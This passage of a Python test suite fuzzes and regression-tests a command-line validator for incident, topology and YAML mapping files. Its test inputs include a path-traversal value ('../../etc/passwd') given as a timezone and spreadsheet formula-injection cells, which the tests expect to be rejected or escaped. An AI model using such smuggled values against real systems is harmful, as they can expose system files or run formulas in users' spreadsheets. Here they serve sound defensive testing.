            assert_product_rule(outcome, *files)


# --------------------------------------------------------------------------- 5. mappings

CONTRACT = (*INCIDENT_COLUMNS, "severity ", "Service", "not_a_column", "")
OPTIONAL_TARGETS = mostly(st.sampled_from(INCIDENT_COLUMNS[3:]), st.sampled_from(CONTRACT))
EXPORT_COLUMNS = ("ticket", "id", "affected", "opened", "closed", "priority", "summary", "nope")
YAML_SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-5, 5),
    st.floats(allow_nan=True),
    plain_text(12),
    st.sampled_from(EXPORT_COLUMNS),
)
YAML_ANY = st.recursive(
    YAML_SCALARS,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(plain_text(6), inner, max_size=3),
    max_leaves=6,
)


def sources_of() -> st.SearchStrategy[Any]:
    """What a `columns` entry may say: a column, a list of them, or something else."""
    return mostly(
        st.sampled_from(EXPORT_COLUMNS) | st.lists(st.sampled_from(EXPORT_COLUMNS), min_size=1),
        st.lists(st.sampled_from(EXPORT_COLUMNS), max_size=0) | YAML_ANY,
    )


@st.composite
def mapping_specs(draw: st.DrawFn) -> Any:
    """A mapping document: mostly well-shaped with hostile values, sometimes any YAML."""
    if not usually(draw) and not usually(draw):  # one in 25
        return draw(YAML_ANY)
    columns = {
        "incident_id": ["ticket", "id"],
        "service": "affected",
        "started_at": "opened",
        "resolved_at": "closed",
    }
    for target in draw(st.lists(OPTIONAL_TARGETS, max_size=4)):
        columns[target] = draw(sources_of())
    if not usually(draw) and not usually(draw):
        del columns[draw(st.sampled_from(INCIDENT_REQUIRED))]
    spec: dict[str, Any] = {"name": draw(YAML_SCALARS), "columns": columns}
    optional = {
        "timezone": mostly(
            st.sampled_from(("UTC", "Europe/Paris", "America/St_Johns", "Etc/GMT-14")),
            st.sampled_from(("Mars/Olympus", "", "+02:00", "utc", "../../etc/passwd", "Z"))
            | YAML_SCALARS,
        ),
        "timestamp_format": mostly(
            st.sampled_from(
                ("%d/%b/%y %I:%M %p", "%Y-%m-%d", "%Y", "%d.%m.%Y %H:%M", "%Y-%m-%d %H:%M%z")
            ),
            st.sampled_from(("%", "%Q", "%s", "%z %Z", "%Y%m%d%H%M%S%f%z")) | YAML_SCALARS,
        ),
        "split": mostly(
            st.fixed_dictionaries({"service": st.sampled_from((",", ";", " ", "|"))}),
            st.fixed_dictionaries({"service": st.sampled_from(("", "\n", "affected"))})
            | st.dictionaries(st.sampled_from(CONTRACT), YAML_SCALARS, max_size=2)
            | YAML_ANY,
        ),
        "values": mostly(
            st.dictionaries(
                st.sampled_from(("severity", "service", "started_at")),
                st.dictionaries(plain_text(8), plain_text(8), max_size=3),
                max_size=3,
            ),
            st.dictionaries(st.sampled_from(CONTRACT), YAML_ANY, max_size=2) | YAML_ANY,
        ),
        "constants": mostly(
            st.dictionaries(OPTIONAL_TARGETS, plain_text(8) | timestamps(), max_size=2),
            st.dictionaries(st.sampled_from(CONTRACT), YAML_ANY, max_size=2) | YAML_ANY,
        ),
        "description": YAML_ANY,
    }
    for key in draw(st.lists(st.sampled_from(sorted(optional)), unique=True)):
        spec[key] = draw(optional[key])
    return spec


@st.composite
def exports(draw: st.DrawFn) -> str:
    """The base export with some cells fuzzed (split cells, timestamps of any form...; no
    100 kB cells: the cell property has them, and here they would only slow the mapping's)."""
    header, rows = table_of(BASE_EXPORT)
    fuzz = {
        "affected": cell(st.sampled_from(("db, api", "web,,cache", ",", " , ", "db;api")), False),
        "opened": cell(
            timestamps() | st.sampled_from(("2026-01-05 10:00+0200", "2026-07-05 10:00-0500")),
            False,
        ),
        "closed": cell(timestamps(), False),
        "priority": cell(st.sampled_from(("highest", "P1", "lowest")), False),
    }
    rows = [
        [
            draw(fuzz[c]) if c in fuzz and draw(st.booleans()) else v
            for c, v in zip(header, r, strict=True)
        ]
        for r in rows
    ]
    return csv_text(header, rows)


@given(spec=mapping_specs(), export=exports())
def test_any_mapping_file(spec, export):
    import yaml

    with folder() as where:
        mapping = where / "mapping.yaml"
        mapping.write_text(yaml.safe_dump(spec, allow_unicode=True), encoding="utf-8")
        path = where / "export.csv"
        path.write_text(export, encoding="utf-8")
        topology = write_base(where, "topology")
        outcome = validate_cli(where, path, topology, mapping)
        assert_product_rule(outcome, mapping, path, topology)


# --------------------------------------------------------------------------- the command itself

SMOKE = [
    ("incidents", "year-1500.csv", "I9,db,1500-01-05T10:00:00Z,,SEV2,database,old,,\n"),
    ("incidents", "nul.csv", "I9,db,2026-01-05T10:00:00Z,,SEV2,data\x00base,x,,\n"),
]


@pytest.mark.parametrize("kind,name,extra", SMOKE, ids=[s[1] for s in SMOKE])
def test_the_installed_command_never_exits_1(tmp_path, kind, name, extra):
    """The real process, without --debug: exit 0 or 2, never a traceback."""
    path = tmp_path / name
    path.write_text(base_text(kind) + extra, encoding="utf-8")
    given_ = {"incidents": BASE_INCIDENTS, "topology": BASE_TOPOLOGY, kind: path}
    done = subprocess.run(
        [sys.executable, "-m", "whatif", "validate", "--incidents", str(given_["incidents"]),
         "--topology", str(given_["topology"]), "--as-of", AS_OF],
        capture_output=True, text=True, timeout=120, cwd=PROJECT,
        env={**os.environ, "PYTHONPATH": str(PROJECT / "plugins")},
    )  # fmt: skip
    assert done.returncode in (0, 2), done.stderr
    assert "Traceback" not in done.stderr and "internal error" not in done.stderr
    if done.returncode == 2:
        assert done.stderr.splitlines()[-1].startswith(f"whatif: error: {path}")


# --------------------------------------------------------------------------- regressions
# The failures the properties found (each ended in exit 1, or broke the rule above before the
# fix), shrunk to a minimal input and pinned as plain tests.


HEADER = base_text("incidents").split("\n", 1)[0]


def incidents_with(where: Path, lines: str, header: str | None = None) -> Path:
    """The base incidents plus `lines` (the base header, or `header` with every base row
    given empty cells for its extra columns)."""
    path = where / "incidents.csv"
    head, *rows = base_text("incidents").splitlines(keepends=True)
    if header:
        extra = header.count(",") - head.count(",")
        head, rows = header + "\n", [r.rstrip("\n") + "," * extra + "\n" for r in rows]
    path.write_text(head + "".join(rows) + lines, encoding="utf-8")
    return path


def quarantined_rows(outcome: Outcome) -> dict[int, str]:
    assert outcome.quarantine is not None, outcome.err
    return {int(r["row"]): r["reason"] for r in outcome.quarantine}


def test_timestamps_outside_1900_to_2189_are_unreadable_not_an_overflow(tmp_path):
    """Years 1500 and 9999 raised OutOfBoundsDatetime; 1700 overflowed later (as_of - start)."""
    path = incidents_with(
        tmp_path,
        "I7,db,1500-01-05T10:00:00Z,,SEV2,database,t,d,\n"
        "I8,db,1700-01-05T10:00:00Z,,SEV2,database,t,d,\n"
        "I9,db,2026-01-05T10:00:00Z,9999-12-31T00:00:00Z,SEV2,database,t,d,\n",
    )
    outcome = validate_cli(tmp_path, path, BASE_TOPOLOGY)
    assert_reconciled(outcome, 9, 4)
    assert quarantined_rows(outcome) == {8: "bad_started_at", 9: "bad_started_at"}
    assert any("resolved_at is not an ISO-8601" in w and "(1 rows: 10)" in w
               for w in outcome.validation["warnings"])  # fmt: skip


@pytest.mark.parametrize(
    ("text", "zone", "expected"),
    [
        ("1899-12-31T23:59:59Z", "UTC", None),
        ("1900-01-01T00:00:00Z", "UTC", "1900-01-01T00:00:00+00:00"),
        ("2189-12-31 23:00", "Europe/Paris", "2189-12-31T22:00:00+00:00"),
        ("2190-01-01T00:00:00Z", "UTC", None),
        ("0001-01-01", "UTC", None),
        ("-0001-01-01T00:00:00Z", "UTC", None),
        ("9999-12-31 23:59 Europe/Paris", "UTC", None),
        ("131071-07-14+14:00", "UTC", None),
    ],
)
def test_the_range_of_timestamps(text, zone, expected):
    from whatif.ingest import parse_timestamps

    parsed = parse_timestamps(pd.Series([text, "2026-01-05T10:00:00.123456789Z"]), zone)
    assert str(parsed.dtype) == "datetime64[ns, UTC]"
    assert (None if pd.isna(parsed[0]) else parsed[0].isoformat()) == expected


def test_a_duration_beyond_ten_years_is_ignored_with_a_warning(tmp_path):
    """duration_minutes 1e9 (1,900 years) overflowed the end computed from it."""
    path = incidents_with(
        tmp_path,
        "I7,db,2026-01-05T10:00:00Z,,SEV2,database,t,d,,1e9\n"
        "I8,db,2026-01-06T10:00:00Z,,SEV2,database,t,d,,5259600\n",  # ten years exactly
        header=HEADER + ",duration_minutes",
    )
    outcome = validate_cli(tmp_path, path, BASE_TOPOLOGY)
    assert_reconciled(outcome, 8, 4)
    assert any("duration_minutes or duration_s is not a number >= 0" in w and "(1 rows: 8)" in w
               for w in outcome.validation["warnings"])  # fmt: skip


def test_whole_number_traffic_weights_are_read(tmp_path):
    """Every weight a whole number made the column int64, and the range check crashed."""
    topology = tmp_path / "topology.csv"
    topology.write_text("service,depends_on,traffic_weight\nweb,api,1\napi,db;cache,0\n"
                        "db,,1\ncache,,-3\n")  # fmt: skip
    outcome = validate_cli(tmp_path, BASE_INCIDENTS, topology)
    assert_reconciled(outcome, 6, 4)
    assert outcome.validation["warnings"][0] == (
        f"{topology}: traffic_weight must be between 0 and 1; the value is ignored (1 rows: 5)"
    )


def test_a_blank_line_of_white_space_is_skipped(tmp_path):
    """A line holding a tab was a row of no data (quarantined; a hard error in a topology)."""
    incidents = incidents_with(tmp_path, "\t\n \t \n")
    topology = tmp_path / "topology.csv"
    topology.write_text(base_text("topology").replace("\n", "\n\t\n", 1))
    assert_reconciled(validate_cli(tmp_path, incidents, topology), 6, 4)


def test_cr_only_line_ends_with_any_delimiter(tmp_path):
    """The whole CR-only file was taken for its header line and the delimiter sniffed wrong."""
    topology = tmp_path / "topology.csv"
    topology.write_bytes(base_text("topology").replace(",", "|").replace("\n", "\r").encode())
    assert_reconciled(validate_cli(tmp_path, BASE_INCIDENTS, topology), 6, 4)


def test_a_cell_holding_a_lone_carriage_return_stays_one_cell_in_quarantine(tmp_path):
    """pandas wrote it unquoted with LF line ends: quarantine.csv then had a broken row."""
    path = incidents_with(tmp_path, 'I7,ghost,2026-01-05T10:00:00Z,,SEV2,database,"a\rb",d,\n')
    outcome = validate_cli(tmp_path, path, BASE_TOPOLOGY)
    assert_reconciled(outcome, 7, None)
    assert [(r["row"], r["title"]) for r in outcome.quarantine] == [("8", "a\rb")]


def test_the_exercise_quarantine_is_safe_to_open_in_a_spreadsheet(tmp_path):
    log = tmp_path / "exercises.csv"
    log.write_text(BASE_EXERCISES + '2026-10-01,db,=1+1,maybe,"@SUM(A1)","x\ry"\n')
    outcome = exercises_run(tmp_path, log)
    assert_exercises_reconciled(outcome, 4)
    row = outcome.quarantine[0]
    assert (row["reason"], row["team"], row["action_items"], row["facilitator"]) == (
        "bad_outcome", "'=1+1", "'@SUM(A1)", "x\ry",
    )  # fmt: skip


def test_json_nested_too_deeply_is_one_line(tmp_path):
    """RecursionError from the JSON reader."""
    path = tmp_path / "incidents.jsonl"
    path.write_text('{"incident_id": ' + "[" * 100_000 + "]" * 100_000 + "}\n")
    outcome = validate_cli(tmp_path, path, BASE_TOPOLOGY)
    assert_one_error_line(outcome, path)
    assert outcome.err == f"whatif: error: {path}, row 1: not a JSON object: nested too deeply\n"


def test_names_and_values_in_an_error_are_escaped_and_short(tmp_path):
    """A quoted header name holding a line break made a two-line error; a 100 kB service
    name a 100 kB one."""
    path = tmp_path / "incidents.csv"
    path.write_text('incident_id,service,started_at,"x\ny","X\ny"\nI1,db,2026-01-05,a,b\n')
    outcome = validate_cli(tmp_path, path, BASE_TOPOLOGY)
    assert_one_error_line(outcome, path)
    assert outcome.err == (
        f"whatif: error: {path}, row 1, column x\\ny: the header names this column twice "
        "(column names are compared ignoring case and spaces)\n"
    )
    topology = tmp_path / "topology.csv"
    name = "\u202e" + "s" * 100_000
    topology.write_text(f"{base_text('topology')}{name},\n{name},\n")
    outcome = validate_cli(tmp_path, BASE_INCIDENTS, topology)
    assert_one_error_line(outcome, topology)
    assert "each service may have one row only: '\\u202esss" in outcome.err


def test_a_user_error_is_always_one_printable_line():
    error = UserError("bad\x00 value\nhere", file="f.csv", row=3, column="a\u202eb" * 40, hint="h")
    text = str(error)
    assert text.isprintable() and "\\x00" in text and "\\n" in text and len(text) < 150


MAPPING_HEAD = "columns: {incident_id: incident_id, service: service, started_at: started_at}\n"


@pytest.mark.parametrize(
    ("content", "error"),
    [
        (b"\x80", "not UTF-8 text (byte 0) (a mapping is a YAML file: save it as UTF-8)"),
        (b"", "a mapping needs a 'columns' table"),  # named the staged copy in _stage/
        (MAPPING_HEAD.encode() + b"split: {service: ''}\n",
         "split: service: the separator must not be empty"),
        (MAPPING_HEAD.encode() + b"split: [a]\n", "split: must be a table (name: value lines)"),
        (MAPPING_HEAD.encode() + b"values: {severity: high}\n",
         "values: severity: must be a table (export word: contract word)"),
        (MAPPING_HEAD.encode() + b"values: {severity: {no: SEV4}}\n",
         "values: severity: must be a text or a number, not False (quote yes, no, on and off: "
         "YAML reads them as true/false)"),
        (MAPPING_HEAD.encode() + b"timezone: Mars/Olympus\n",
         "timezone: 'Mars/Olympus' is not a time zone (use an IANA name such as Europe/Paris, "
         "or UTC)"),
        (MAPPING_HEAD.encode() + b"timestamp_format: '%Q'\n",
         "timestamp_format: not a usable format: 'Q' is a bad directive in format '%Q' (use "
         "Python strftime codes such as %d/%b/%y %I:%M %p)"),
        (b"columns: {incident_id: [], service: service, started_at: started_at}\n",
         "columns: incident_id: give an export column name or a list of them"),
        (b"columns: {incident_id: {a: b}, service: service, started_at: started_at}\n",
         "columns: incident_id: must be a text or a number, not {'a': 'b'}"),
    ],
)  # fmt: skip
def test_a_mapping_mistake_is_one_line_naming_the_users_file(tmp_path, content, error):
    """Each was an internal error (UnicodeDecodeError, AttributeError, ValueError,
    ZoneInfoNotFoundError) or named the staged copy of the mapping."""
    mapping = tmp_path / "mine.yaml"
    mapping.write_bytes(content)
    naive = tmp_path / "export.csv"  # naive times: the zone is used
    naive.write_text("incident_id,service,started_at\nI1,db,2026-01-05 10:00\n")
    outcome = validate_cli(tmp_path, naive, BASE_TOPOLOGY, mapping)
    assert_one_error_line(outcome, mapping)
    assert outcome.err == f"whatif: error: {mapping}: {error}\n"


def test_an_aliases_file_that_is_not_yaml_is_one_line(tmp_path):
    """yaml.YAMLError escaped read_aliases: an internal error of several lines."""
    aliases = tmp_path / "aliases.yaml"
    aliases.write_text("a: [\n")
    code, err = 0, io.StringIO()
    with redirect_stderr(err), redirect_stdout(io.StringIO()):
        code = main(["--debug", "validate", "--incidents", str(BASE_INCIDENTS), "--topology",
                     str(BASE_TOPOLOGY), "--aliases", str(aliases), "--as-of", AS_OF])  # fmt: skip
    outcome = Outcome(code, "", err.getvalue())
    assert_one_error_line(outcome, aliases)
    assert outcome.err == f"whatif: error: {aliases}: not valid YAML: while parsing a flow node\n"


def test_offsets_of_hours_only_and_mixed_offsets_in_a_format(tmp_path):
    """ "+05" beside naive times, and a mapping format with %z over summer and winter
    offsets, made pandas refuse the column ("Mixed timezones detected")."""
    path = incidents_with(tmp_path, "I7,db,2026-01-05T10:00+05,,SEV2,database,t,d,\n")
    outcome = validate_cli(tmp_path, path, BASE_TOPOLOGY)
    assert_reconciled(outcome, 7, 4)
    mapping = tmp_path / "offsets.yaml"
    mapping.write_text(MAPPING_HEAD + 'timestamp_format: "%Y-%m-%d %H:%M%z"\n')
    export = tmp_path / "export.csv"
    export.write_text("incident_id,service,started_at\nI1,db,2026-01-05 10:00+0200\n"
                      "I2,db,2026-07-05 10:00-0500\nI3,db,2026-07-06 10:00\n")  # fmt: skip
    outcome = validate_cli(tmp_path, export, BASE_TOPOLOGY, mapping)
    assert_reconciled(outcome, 3, 4)
    assert outcome.validation["inputs"]["incidents"]["data_start"] == "2026-01-05T08:00:00+00:00"
